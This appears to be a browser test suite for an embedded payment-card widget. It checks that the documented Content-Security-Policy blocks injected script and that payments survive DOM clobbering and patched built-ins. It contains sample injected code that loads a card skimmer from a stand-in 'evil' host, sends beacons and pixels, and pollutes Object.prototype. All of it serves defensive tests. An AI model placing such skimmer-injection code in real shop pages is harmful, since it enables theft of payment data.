import assert from 'node:assert/strict';
import {createHash} from 'node:crypto';
import {readFileSync} from 'node:fs';
import {join} from 'node:path';
import type {Frame, Page} from 'puppeteer-core';
import {fieldFrames, readyFrame, typeWholeCard} from '../../support/browser.ts';
import {ROOT} from '../../support/root.ts';
import {snippet, type Servers} from '../../support/servers.ts';
import {CANARY} from './canary.ts';
import {assertDecrypts, fill, openFields, pay, servePage} from './pages.ts';
import {inEngines} from './suite.ts';

/** The policy that the documentation recommends to merchants, for the widget host of the test. */
function documentedPolicy(widget: string): string {
  const text = readFileSync(join(ROOT, 'docs/threat-model.md'), 'utf8');
  const [, policy] = /^Content-Security-Policy: (.*)$/m.exec(text) ?? [];
  assert.ok(policy);
  return policy.replaceAll('https://pay.example.com', widget);
}

/** In every document: records each policy violation and each error. */
const RECORD_VIOLATIONS = `window.broken = [];
  document.addEventListener('securitypolicyviolation', ({effectiveDirective, blockedURI}) =>
    broken.push(effectiveDirective + ' ' + blockedURI));
  addEventListener('error', ({message}) => broken.push(message));`;

/** In a page with the documented policy: script that was injected tries to fetch, frame and draw. */
const INJECTED = (evil: string) => `{
  const frame = document.createElement('iframe');
  frame.src = '${evil}/look-alike';
  const script = document.createElement('script');
  script.src = '${evil}/skimmer.js';
  const inline = document.createElement('script');
  inline.textContent = 'window.ran = true';
  document.body.append(frame, script, inline);
  fetch('${evil}/beacon').catch(() => undefined);
  new Image().src = '${evil}/pixel';
  document.forms[0].noValidate = true;
}`;

/** Markup whose names shadow globals and properties that scripts use. */
const CLOBBERED = {
  'images named as globals': `<img name="SealedFields"><img id="customElements"><img id="crypto"><img name="currentScript">
    <img id="MessageChannel"><img name="location">`,
  'forms named as properties of the document': `<form name="currentScript"></form><form name="body"></form>
    <form name="documentElement"></form><form name="forms"></form><form name="title"></form><form name="defaultView"></form>`,
  'controls named as properties of the form': [
    'submit',
    'requestSubmit',
    'elements',
    'action',
    'method',
    'checkValidity',
    'target',
    'addEventListener',
    'matches',
    'id',
  ]
    .map((name) => `<input form="paying" type="hidden" name="${name}" value="x">`)
    .join(''),
};

/** Patches of built-ins by older libraries, before our script runs. */
const PATCHED = {
  'an enumerable method on every object': `Object.prototype.extend = function () { return this; };`,
  'options on every object': `for (const [name, value] of Object.entries({origin: 'EVIL', merchant: 'missing', fields: 'pin', theme: 'sepia',
    locale: '??', names: '{"cardNumber": "stolen"}', brand: 'none', optional: '', layout: 'none'}))
      Object.defineProperty(Object.prototype, name, {value, writable: true, configurable: true});`,
  'toJSON on arrays and strings': `Array.prototype.toJSON = function () { return 'broken'; };
    String.prototype.toJSON = function () { return 'broken'; };`,
  'methods on every array': `Array.prototype.remove = Array.prototype.clone = Array.prototype.each = function () { return []; };`,
  'its own Array.from, bind and Element methods': `{
      const from = Array.from;
      Array.from = (list, map) => (map ? [].map.call(from(list), map) : from(list));
      Function.prototype.bind = function (self, ...given) { return (...more) => this.apply(self, [...given, ...more]); };
      Element.prototype.show = Element.prototype.hide = Element.prototype.update = function () { return this; };
    }`,
  'wrapped timers and listeners': `{
      const {setTimeout: setTimer, addEventListener: listen} = window;
      window.setTimeout = (run, ...more) => setTimer((...given) => run(...given), ...more);
      window.addEventListener = function (type, run, options) { return listen.call(this ?? window, type, (event) => run(event), options); };
    }`,
  'a wrapped postMessage': `{
      const {postMessage} = window;
      window.postMessage = function (...given) { return postMessage.apply(this, given); };
    }`,
};

/** The driver of WebKit uses the page's own JSON and objects. */
const BREAKS_THE_DRIVER: readonly string[] = [
  'an enumerable method on every object',
  'toJSON on arrays and strings',
] satisfies (keyof typeof PATCHED)[];

inEngines('security: the merchant’s page', (suite) => {
  const {prove} = suite;

  /** Pays in a page with these headers. No policy may be violated, in page and frame, and the gateway decrypts the card. */
  async function assertPays(
    page: Page,
    headers: Record<string, string>,
    enter: (page: Page, frame: Frame, card: typeof CANARY.card) => Promise<void> = fill,
  ): Promise<void> {
    const frame = await openFields(page, suite.servers, {headers});
    await enter(page, frame, CANARY.card);
    for (const place of [page, frame]) assert.deepEqual(await place.evaluate('broken'), []);
    assertDecrypts(suite.servers, await pay(page, suite.servers), CANARY.card);
  }

  prove('M01', 'the documented policy, copied, allows a payment and blocks everything else', async (page) => {
    const {servers} = suite;
    const headers = {'Content-Security-Policy': documentedPolicy(servers.widget)};
    await page.evaluateOnNewDocument(RECORD_VIOLATIONS);
    await assertPays(page, headers, typeWholeCard);

    const frame = await openFields(page, servers, {headers});
    const asked = servers.asked.length;
    await page.evaluate(INJECTED(servers.evil));
    // Neither can script in the frame navigate it.
    await frame.evaluate(`location.href = '${servers.evil}/elsewhere'`).catch(() => undefined);
    await page.waitForFunction(
      `['frame-src', 'script-src', 'connect-src', 'img-src'].every((name) => broken.some((text) => text.startsWith(name)))
        && broken.filter((text) => text.startsWith('frame-src')).length > 1`,
    );
    assert.equal(await page.evaluate('window.ran'), undefined);
    const reached = servers.asked.slice(asked).filter(({url}) => url.startsWith(servers.evil));
    assert.deepEqual(reached, []);
  });

  prove('M02', 'a script with the nonce, and one that it injects', async (page) => {
    const {servers} = suite;
    const {widget} = servers;
    const policy = `default-src 'none'; script-src 'nonce-abc' 'strict-dynamic'; frame-src ${widget}; img-src 'self'; form-action 'self'; base-uri 'none'`;
    const injecting = `<script nonce="abc">
      const script = document.createElement('script');
      script.dataset.merchant = 'demo';
      script.setAttribute('src', new URL('/v1/sealed-fields.js', '${widget}'));
      document.head.append(script);
    </script>`;
    await page.evaluateOnNewDocument(RECORD_VIOLATIONS);
    servePage(servers);
    const {html = ''} = servers.pages.get('/shop') ?? {};
    for (const [script, types] of [
      // Trusted Types would block the page's own statement that injects the script, not ours.
      [
        html.replace('<script', '<script nonce="abc"'),
        "; require-trusted-types-for 'script'; trusted-types 'none'",
      ],
      [html.replace(/<script.*<\/script>/, injecting), ''],
    ] as const) {
      servers.received.length = 0;
      servers.pages.set('/shop', {html: script, headers: {'Content-Security-Policy': policy + types}});
      await page.goto(`${servers.page}/shop`);
      const frame = await readyFrame(page, servers);
      await fill(page, frame, CANARY.card);
      for (const place of [page, frame]) assert.deepEqual(await place.evaluate('broken'), []);
      assertDecrypts(servers, await pay(page, servers), CANARY.card);
    }
  });

  prove('M03', 'both values of Cross-Origin-Embedder-Policy', async (page) => {
    await page.evaluateOnNewDocument(RECORD_VIOLATIONS);
    for (const embedder of ['require-corp', 'credentialless']) {
      const headers = {
        'Cross-Origin-Embedder-Policy': embedder,
        'Cross-Origin-Opener-Policy': 'same-origin',
      };
      await assertPays(page, headers, async (...card) => {
        // WebKit does not support the second value and ignores it.
        const isIsolated = suite.engine !== 'webkit' || embedder === 'require-corp';
        if (isIsolated) assert.equal(await page.evaluate('crossOriginIsolated'), true);
        await (suite.engine === 'firefox' ? fill : typeWholeCard)(...card);
      });
    }
  });

  prove('M05', 'the published loader runs, and one with a changed byte does not', async (page) => {
    const {servers} = suite;
    const loader = await (await fetch(`${servers.widget}/v1/sealed-fields.js`)).text();
    const integrity = `sha384-${createHash('sha384').update(loader).digest('base64')}`;
    for (const [code, isRun] of [
      [loader, true],
      [loader.replace('sealed-fields', 'Sealed-fields'), false],
    ] as const) {
      servers.pages.set('/loader.js', {html: code, headers: {'Content-Type': 'text/javascript'}});
      const script = `<script src="/loader.js" integrity="${integrity}" data-origin="${servers.widget}" data-merchant="demo"
        onload="document.title = 'ran'" onerror="document.title = 'blocked'"></script>`;
      servers.pages.set('/pinned', {
        html: `<!doctype html><title>Shop</title><form><sealed-fields></sealed-fields></form>${script}`,
      });
      await page.goto(`${servers.page}/pinned`);
      await page.waitForFunction(`document.title === '${isRun ? 'ran' : 'blocked'}'`);
      assert.equal(await page.evaluate(`customElements.get('sealed-fields') !== undefined`), isRun);
      if (isRun) await readyFrame(page, servers);
      else assert.equal(await page.$('iframe'), null);
    }
  });

  /** Pays in a page with this markup and this script before ours. No request may go to the attacker. */
  async function assertPaysNextTo(
    page: Page,
    servers: Servers,
    what: string,
    markup: string,
    script: string,
  ) {
    const {html} = snippet(servers, '');
    const loader = /<script.*<\/script>/.exec(html)?.[0] ?? '';
    const patch = script === '' ? '' : `<script>${script.replace('EVIL', servers.evil)}</script>`;
    servers.received.length = 0;
    servers.pages.set('/received', {html: 'Received'});
    servers.pages.set('/clobbered', {
      html: `<!doctype html><html lang="en"><title>Shop</title>${patch}${loader}<body>${markup}
        <form id="paying" method="post" action="/received"><sealed-fields></sealed-fields><button>Pay</button></form>`,
    });
    const asked = servers.asked.length;
    await page.goto(`${servers.page}/clobbered`);
    const [frame] = await fieldFrames(page, servers);
    assert.ok(frame, what);
    await fill(page, frame, CANARY.card);
    assertDecrypts(servers, await pay(page, servers), CANARY.card);
    assert.equal(servers.received.length, 1, what);
    const toAttacker = servers.asked.slice(asked).filter(({url}) => url.startsWith(servers.evil));
    assert.deepEqual(toAttacker, [], what);
  }

  prove('M07', 'a card is paid next to clobbered names', async (page) => {
    for (const [what, markup] of Object.entries(CLOBBERED))
      await assertPaysNextTo(page, suite.servers, what, markup, '');
  });

  prove('M07', 'a card is paid next to patched built-ins', async (page) => {
    for (const [what, script] of Object.entries(PATCHED))
      if (suite.engine !== 'webkit' || !BREAKS_THE_DRIVER.includes(what))
        await assertPaysNextTo(page, suite.servers, what, '', script);
  });
});
